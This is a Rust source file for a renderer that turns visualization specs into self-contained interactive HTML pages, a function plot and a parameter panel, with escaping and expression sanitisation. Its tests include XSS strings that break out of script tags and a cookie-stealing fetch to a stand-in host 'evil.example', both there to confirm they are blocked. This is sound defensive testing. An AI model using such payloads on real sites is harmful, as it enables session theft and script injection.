//! Self-contained interactive HTML pages from built-in templates.
//!
//! Templates:
//!
//! - `function_plot`: draws `y = f(x, params)` on a canvas. The `function`
//!   binding holds the expression; `x_range`/`y_range` are optional
//!   `[lo, hi]` pairs.
//! - `parameter_panel`: controls plus a live table of the bindings.
//!
//! Both build one control per parameter and post every change to the parent
//! frame as `{type: "iframe_variable_update", variable, value}`.
//!
//! Expressions never reach the page verbatim: they are parsed by the
//! restricted evaluator and re-emitted as JavaScript over `Math.*`. Data is
//! embedded as JSON with `<`, `>` and `&` escaped.

use std::collections::BTreeMap;

use async_trait::async_trait;
use serde_json::{json, Map, Value};

use super::{RenderContext, Renderer};
use crate::artifact::Artifact;
use crate::config::ExpressionProfile;
use crate::error::RenderError;
use crate::expr::Expression;
use crate::spec::{ParamRange, Payload, ScriptPayload, VisualizationSpec, VizKind};

pub const FUNCTION_PLOT: &str = "function_plot";
pub const PARAMETER_PANEL: &str = "parameter_panel";

/// Binding holding the plotted expression in `function_plot`.
pub const FUNCTION_BINDING: &str = "function";

const DEFAULT_RANGE: [f64; 2] = [-10.0, 10.0];

pub struct InteractiveJsRenderer {
    limits: ExpressionProfile,
}

impl InteractiveJsRenderer {
    pub fn new(limits: ExpressionProfile) -> Self {
        Self { limits }
    }

    fn parse(&self, what: &str, src: &str, variables: &[&str]) -> Result<Expression, RenderError> {
        if src.len() > self.limits.effective_source_len() {
            return Err(RenderError::fault(format!(
                "{what}: expression longer than {} bytes",
                self.limits.effective_source_len()
            )));
        }
        Expression::parse(src, variables).map_err(|e| RenderError::fault(format!("{what}: {e}")))
    }
}

/// Bindings after computed entries have been evaluated.
struct ResolvedBindings {
    values: Map<String, Value>,
    /// `(name, js expression over p)` for each computed binding.
    computed: Vec<(String, String)>,
}

#[async_trait]
impl Renderer for InteractiveJsRenderer {
    fn kind(&self) -> VizKind {
        VizKind::InteractiveJs
    }

    async fn render(
        &self,
        spec: &VisualizationSpec,
        _ctx: &RenderContext,
    ) -> Result<Artifact, RenderError> {
        let Payload::InteractiveJs(payload) = &spec.payload else {
            return Err(RenderError::InvalidSpec(format!(
                "interactive_js renderer got a {} payload",
                spec.payload.kind()
            )));
        };

        let defaults = spec.numeric_defaults();
        let resolved = self.resolve_bindings(payload, &defaults)?;
        let params = params_json(spec);

        let html = match payload.template.trim() {
            FUNCTION_PLOT => self.function_plot(payload, &defaults, &params, &resolved)?,
            PARAMETER_PANEL => page(
                PANEL_BODY,
                &params,
                &resolved,
                &[("program", PANEL_PROGRAM.to_string())],
            ),
            other => {
                return Err(RenderError::InvalidSpec(format!(
                    "unknown template '{other}'"
                )))
            }
        };

        Ok(Artifact::Script {
            html,
            bindings: resolved.values,
        })
    }
}

impl InteractiveJsRenderer {
    fn resolve_bindings(
        &self,
        payload: &ScriptPayload,
        defaults: &BTreeMap<String, f64>,
    ) -> Result<ResolvedBindings, RenderError> {
        let names: Vec<&str> = defaults.keys().map(String::as_str).collect();
        let mut values = Map::new();
        let mut computed = Vec::new();

        for (name, value) in &payload.bindings {
            let Some(src) = computed_source(value) else {
                values.insert(name.clone(), value.clone());
                continue;
            };
            let what = format!("binding '{name}'");
            let expr = self.parse(&what, src, &names)?;
            let v = expr
                .eval_with(defaults)
                .map_err(|e| RenderError::fault(format!("{what}: {e}")))?;
            values.insert(name.clone(), json!(v));
            computed.push((name.clone(), expr.to_js(param_reader)));
        }
        Ok(ResolvedBindings { values, computed })
    }

    fn function_plot(
        &self,
        payload: &ScriptPayload,
        defaults: &BTreeMap<String, f64>,
        params: &Value,
        resolved: &ResolvedBindings,
    ) -> Result<String, RenderError> {
        let src = payload
            .bindings
            .get(FUNCTION_BINDING)
            .and_then(Value::as_str)
            .ok_or_else(|| {
                RenderError::InvalidSpec(format!(
                    "{FUNCTION_PLOT} needs a string '{FUNCTION_BINDING}' binding"
                ))
            })?;

        let mut variables = vec!["x"];
        variables.extend(defaults.keys().map(String::as_str).filter(|n| *n != "x"));
        let expr = self.parse("function", src, &variables)?;
        let js = expr.to_js(|name| {
            if name == "x" {
                "x".to_string()
            } else {
                param_reader(name)
            }
        });

        let x_range = range_binding(payload, "x_range")?;
        let y_range = range_binding(payload, "y_range")?;
        let program = FUNCTION_PLOT_PROGRAM
            .replace("@@x_range@@", &script_json(&json!(x_range)))
            .replace("@@y_range@@", &script_json(&json!(y_range)))
            .replace("@@function@@", &js);

        Ok(page(
            FUNCTION_PLOT_BODY,
            params,
            resolved,
            &[("program", program)],
        ))
    }
}

/// `{"expr": "..."}` marks a computed binding.
fn computed_source(value: &Value) -> Option<&str> {
    let obj = value.as_object()?;
    if obj.len() != 1 {
        return None;
    }
    obj.get("expr")?.as_str()
}

fn range_binding(payload: &ScriptPayload, key: &str) -> Result<[f64; 2], RenderError> {
    let Some(value) = payload.bindings.get(key) else {
        return Ok(DEFAULT_RANGE);
    };
    let pair: Option<[f64; 2]> = value.as_array().and_then(|a| match a.as_slice() {
        [lo, hi] => Some([lo.as_f64()?, hi.as_f64()?]),
        _ => None,
    });
    match pair {
        Some([lo, hi]) if lo.is_finite() && hi.is_finite() && lo < hi => Ok([lo, hi]),
        _ => Err(RenderError::InvalidSpec(format!(
            "'{key}' must be an increasing [lo, hi] pair"
        ))),
    }
}

fn param_reader(name: &str) -> String {
    format!("p[{}]", script_json(&Value::String(name.to_string())))
}

fn params_json(spec: &VisualizationSpec) -> Value {
    let mut out = Map::new();
    for (name, p) in &spec.parameters {
        let label = p.label.clone().unwrap_or_else(|| name.clone());
        let entry = match &p.range {
            ParamRange::Numeric { min, max, step } => json!({
                "kind": "numeric",
                "default": p.default,
                "min": min,
                "max": max,
                "step": step.unwrap_or((max - min) / 100.0),
                "label": label,
            }),
            ParamRange::Categorical { options } => json!({
                "kind": "categorical",
                "default": p.default,
                "options": options,
                "label": label,
            }),
        };
        out.insert(name.clone(), entry);
    }
    Value::Object(out)
}

/// JSON that is safe to place inside a `<script>` element.
pub fn script_json(value: &Value) -> String {
    value
        .to_string()
        .replace('<', "\\u003c")
        .replace('>', "\\u003e")
        .replace('&', "\\u0026")
        .replace('\u{2028}', "\\u2028")
        .replace('\u{2029}', "\\u2029")
}

fn page(body: &str, params: &Value, resolved: &ResolvedBindings, extra: &[(&str, String)]) -> String {
    let computed = resolved
        .computed
        .iter()
        .map(|(name, js)| {
            format!(
                "{}: function (p) {{ return {js}; }}",
                script_json(&Value::String(name.clone()))
            )
        })
        .collect::<Vec<_>>()
        .join(",\n    ");

    let mut slots: Vec<(&str, String)> = vec![
        ("body", body.to_string()),
        ("params", script_json(params)),
        ("bindings", script_json(&Value::Object(resolved.values.clone()))),
        ("computed", format!("{{\n    {computed}\n  }}")),
    ];
    slots.extend(extra.iter().cloned());
    fill(PAGE, &slots)
}

/// Replace `@@name@@` markers in one pass; inserted text is never rescanned.
fn fill(template: &str, slots: &[(&str, String)]) -> String {
    let mut out = String::with_capacity(template.len());
    let mut rest = template;
    while let Some(start) = rest.find("@@") {
        out.push_str(&rest[..start]);
        let after = &rest[start + 2..];
        match after.find("@@") {
            Some(end) => {
                let key = &after[..end];
                match slots.iter().find(|(k, _)| *k == key) {
                    Some((_, value)) => out.push_str(value),
                    None => out.push_str(&rest[start..start + 2 + end + 2]),
                }
                rest = &after[end + 2..];
            }
            None => {
                out.push_str(&rest[start..]);
                rest = "";
            }
        }
    }
    out.push_str(rest);
    out
}

const PAGE: &str = r#"<!DOCTYPE html>
<html>
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>Interactive Visualization</title>
<style>
  body { margin: 0; padding: 10px; font-family: -apple-system, BlinkMacSystemFont, "Segoe UI", Roboto, Helvetica, Arial, sans-serif;
         display: flex; flex-direction: column; align-items: center; height: 100vh; box-sizing: border-box; background-color: #f9f9f9; }
  .controls { margin-bottom: 10px; display: flex; flex-wrap: wrap; justify-content: center; gap: 15px; padding: 8px;
              background-color: #f0f0f0; border-radius: 8px; width: 100%; box-sizing: border-box; }
  .control-group { display: flex; align-items: center; gap: 8px; }
  .control-group label { font-weight: 500; font-size: 14px; }
  .value-display { min-width: 40px; text-align: center; font-family: monospace; background-color: white;
                   padding: 2px 4px; border-radius: 4px; border: 1px solid #ddd; }
  canvas { border: 1px solid #ccc; background-color: white; width: 100%; flex-grow: 1; box-sizing: border-box; }
  table { border-collapse: collapse; font-family: monospace; }
  td { border: 1px solid #ddd; padding: 4px 10px; background-color: white; }
</style>
</head>
<body>
<div class="controls" id="controls"></div>
@@body@@
<script>
  const PARAMS = @@params@@;
  const BINDINGS = @@bindings@@;
  const COMPUTED = @@computed@@;

  const state = {};
  for (const [name, p] of Object.entries(PARAMS)) state[name] = p.default;

  function notifyParent(variable, value) {
    if (window.parent && window.parent !== window) {
      window.parent.postMessage({ type: 'iframe_variable_update', variable: variable, value: value }, '*');
    }
  }

  function buildControls(container, onChange) {
    for (const [name, p] of Object.entries(PARAMS)) {
      const group = document.createElement('div');
      group.className = 'control-group';
      const label = document.createElement('label');
      label.textContent = p.label;
      group.appendChild(label);
      if (p.kind === 'numeric') {
        const input = document.createElement('input');
        input.type = 'range';
        input.min = p.min; input.max = p.max; input.step = p.step; input.value = p.default;
        const shown = document.createElement('span');
        shown.className = 'value-display';
        shown.textContent = p.default;
        input.addEventListener('input', () => {
          state[name] = parseFloat(input.value);
          shown.textContent = input.value;
          notifyParent(name, state[name]);
          onChange();
        });
        group.append(input, shown);
      } else {
        const select = document.createElement('select');
        for (const option of p.options) {
          const o = document.createElement('option');
          o.value = option; o.textContent = option;
          select.appendChild(o);
        }
        select.value = p.default;
        select.addEventListener('change', () => {
          state[name] = select.value;
          notifyParent(name, state[name]);
          onChange();
        });
        group.appendChild(select);
      }
      container.appendChild(group);
    }
  }

  function computedValues() {
    const out = {};
    for (const [name, f] of Object.entries(COMPUTED)) out[name] = f(state);
    return out;
  }

@@program@@
</script>
</body>
</html>
"#;

const FUNCTION_PLOT_BODY: &str = r#"<canvas id="visualization-canvas"></canvas>"#;

const FUNCTION_PLOT_PROGRAM: &str = r#"  const canvas = document.getElementById('visualization-canvas');
  const ctx = canvas.getContext('2d');
  const X_RANGE = @@x_range@@;
  const Y_RANGE = @@y_range@@;

  function mathFunction(x, p) {
    return @@function@@;
  }

  function resizeCanvas() {
    const dpr = window.devicePixelRatio || 1;
    const rect = canvas.getBoundingClientRect();
    canvas.width = rect.width * dpr;
    canvas.height = rect.height * dpr;
    ctx.setTransform(dpr, 0, 0, dpr, 0, 0);
    draw();
  }

  function draw() {
    const width = canvas.clientWidth;
    const height = canvas.clientHeight;
    ctx.clearRect(0, 0, width, height);

    const [xMin, xMax] = X_RANGE;
    const [yMin, yMax] = Y_RANGE;
    const xScale = width / (xMax - xMin);
    const yScale = height / (yMax - yMin);
    const xOffset = -xMin * xScale;
    const yOffset = yMax * yScale;

    ctx.strokeStyle = '#eee';
    ctx.lineWidth = 1;
    for (let i = Math.ceil(xMin); i <= Math.floor(xMax); i++) {
      ctx.beginPath(); ctx.moveTo(xOffset + i * xScale, 0); ctx.lineTo(xOffset + i * xScale, height); ctx.stroke();
    }
    for (let i = Math.ceil(yMin); i <= Math.floor(yMax); i++) {
      ctx.beginPath(); ctx.moveTo(0, yOffset - i * yScale); ctx.lineTo(width, yOffset - i * yScale); ctx.stroke();
    }

    ctx.strokeStyle = '#999';
    ctx.beginPath();
    ctx.moveTo(0, yOffset); ctx.lineTo(width, yOffset);
    ctx.moveTo(xOffset, 0); ctx.lineTo(xOffset, height);
    ctx.stroke();

    ctx.strokeStyle = '#007bff';
    ctx.lineWidth = 2;
    ctx.beginPath();
    let drawing = false;
    for (let px = 0; px < width; px++) {
      const x = (px - xOffset) / xScale;
      const y = mathFunction(x, state);
      if (isFinite(y)) {
        const py = yOffset - y * yScale;
        if (drawing) ctx.lineTo(px, py); else ctx.moveTo(px, py);
        drawing = true;
      } else {
        drawing = false;
      }
    }
    ctx.stroke();
  }

  buildControls(document.getElementById('controls'), draw);
  window.addEventListener('resize', resizeCanvas);
  resizeCanvas();"#;

const PANEL_BODY: &str = r#"<table id="bindings"></table>"#;

const PANEL_PROGRAM: &str = r#"  const table = document.getElementById('bindings');

  function renderBindings() {
    const values = Object.assign({}, BINDINGS, computedValues());
    table.replaceChildren();
    for (const [name, value] of Object.entries(values)) {
      const row = document.createElement('tr');
      const k = document.createElement('td');
      k.textContent = name;
      const v = document.createElement('td');
      v.textContent = typeof value === 'number' ? String(Number(value.toPrecision(6))) : JSON.stringify(value);
      row.append(k, v);
      table.appendChild(row);
    }
  }

  buildControls(document.getElementById('controls'), renderBindings);
  renderBindings();"#;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::ErrorKind;
    use crate::sandbox::fakes::ScriptedFactory;
    use std::sync::Arc;

    async fn render(json: &str) -> Result<Artifact, RenderError> {
        let spec = VisualizationSpec::from_json(json).unwrap();
        let ctx = RenderContext {
            sandboxes: Arc::new(ScriptedFactory::new(vec![])),
            attempt: 1,
        };
        InteractiveJsRenderer::new(ExpressionProfile::default())
            .render(&spec, &ctx)
            .await
    }

    fn html_of(artifact: Artifact) -> (String, Map<String, Value>) {
        match artifact {
            Artifact::Script { html, bindings } => (html, bindings),
            other => panic!("expected script, got {other:?}"),
        }
    }

    #[tokio::test]
    async fn test_function_plot_transpiles_expression() {
        let (html, bindings) = html_of(
            render(
                r#"{"kind": "interactive_js",
                    "parameters": {"a": {"default": 1, "range": {"type": "numeric", "min": -5, "max": 5}, "label": "Amplitude"}},
                    "payload": {"kind": "interactive_js", "template": "function_plot",
                                "bindings": {"function": "a * np.sin(x)", "y_range": [-6, 6]}}}"#,
            )
            .await
            .unwrap(),
        );
        assert!(html.contains(r#"return (p["a"] * Math.sin(x));"#));
        assert!(html.contains("const Y_RANGE = [-6.0,6.0];"));
        assert!(html.contains("const X_RANGE = [-10.0,10.0];"));
        assert!(html.contains("iframe_variable_update"));
        assert!(html.contains("\"label\":\"Amplitude\""));
        assert!(!html.contains("@@"));
        assert_eq!(bindings["function"], "a * np.sin(x)");
    }

    #[tokio::test]
    async fn test_computed_binding_evaluated_over_defaults() {
        let (html, bindings) = html_of(
            render(
                r#"{"kind": "interactive_js",
                    "parameters": {"r": {"default": 2, "range": {"type": "numeric", "min": 0, "max": 10}}},
                    "payload": {"kind": "interactive_js", "template": "parameter_panel",
                                "bindings": {"area": {"expr": "pi * r**2"}, "unit": "cm"}}}"#,
            )
            .await
            .unwrap(),
        );
        let area = bindings["area"].as_f64().unwrap();
        assert!((area - 4.0 * std::f64::consts::PI).abs() < 1e-9);
        assert_eq!(bindings["unit"], "cm");
        assert!(html.contains(r#""area": function (p) { return"#));
        assert!(html.contains("<table id=\"bindings\">"));
    }

    #[tokio::test]
    async fn test_strings_cannot_close_the_script() {
        let (html, _) = html_of(
            render(
                r#"{"kind": "interactive_js",
                    "parameters": {"k": {"default": 1, "range": {"type": "numeric", "min": 0, "max": 2}, "label": "</script><script>alert(1)</script>"}},
                    "payload": {"kind": "interactive_js", "template": "parameter_panel",
                                "bindings": {"note": "</script><img src=x onerror=alert(1)>"}}}"#,
            )
            .await
            .unwrap(),
        );
        assert_eq!(html.matches("</script>").count(), 1);
        assert!(html.contains("\\u003c/script\\u003e"));
    }

    #[tokio::test]
    async fn test_unknown_template_is_invalid_spec() {
        let err = render(
            r#"{"kind": "interactive_js", "payload": {"kind": "interactive_js", "template": "three_scene"}}"#,
        )
        .await
        .unwrap_err();
        assert_eq!(err.kind(), ErrorKind::InvalidSpec);
    }

    #[tokio::test]
    async fn test_function_plot_requires_function_binding() {
        let err = render(
            r#"{"kind": "interactive_js", "payload": {"kind": "interactive_js", "template": "function_plot"}}"#,
        )
        .await
        .unwrap_err();
        assert_eq!(err.kind(), ErrorKind::InvalidSpec);
    }

    #[tokio::test]
    async fn test_injected_code_is_fault() {
        let err = render(
            r#"{"kind": "interactive_js", "payload": {"kind": "interactive_js", "template": "function_plot",
                "bindings": {"function": "fetch('https://evil.example/?' + document.cookie)"}}}"#,
        )
        .await
        .unwrap_err();
        assert_eq!(err.kind(), ErrorKind::ExecutionFault);
    }

    #[tokio::test]
    async fn test_computed_binding_fault() {
        let err = render(
            r#"{"kind": "interactive_js", "payload": {"kind": "interactive_js", "template": "parameter_panel",
                "bindings": {"bad": {"expr": "1/0"}}}}"#,
        )
        .await
        .unwrap_err();
        assert_eq!(err.kind(), ErrorKind::ExecutionFault);
    }

    #[tokio::test]
    async fn test_bad_range_is_invalid_spec() {
        let err = render(
            r#"{"kind": "interactive_js", "payload": {"kind": "interactive_js", "template": "function_plot",
                "bindings": {"function": "x", "x_range": [5, 1]}}}"#,
        )
        .await
        .unwrap_err();
        assert_eq!(err.kind(), ErrorKind::InvalidSpec);
    }

    #[test]
    fn test_fill_is_single_pass() {
        let out = fill("a @@x@@ b @@y@@ @@z@@", &[("x", "@@y@@".into()), ("y", "Y".into())]);
        assert_eq!(out, "a @@y@@ b Y @@z@@");
    }
}
